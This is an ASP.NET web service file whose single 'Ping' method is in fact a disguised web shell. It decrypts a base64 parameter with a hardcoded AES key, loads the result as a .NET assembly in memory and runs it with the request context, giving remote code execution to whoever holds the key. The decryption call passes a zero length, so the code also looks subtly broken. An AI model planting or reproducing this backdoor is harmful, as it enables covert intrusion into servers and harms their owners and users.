<%@ WebService Language="C#" Class="Svc" %>
using System.Web.Services;
public class Svc : WebService {
  [WebMethod(EnableSession=true)]
  public string Ping(string d) {
    byte[] k = System.Text.Encoding.Default.GetBytes("e45e329feb5d925b");
    byte[] p = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k,k).TransformFinalBlock(System.Convert.FromBase64String(d),0,0);
    System.Reflection.Assembly.Load(p).CreateInstance("U").Equals(Context);
    return "";
  }
}
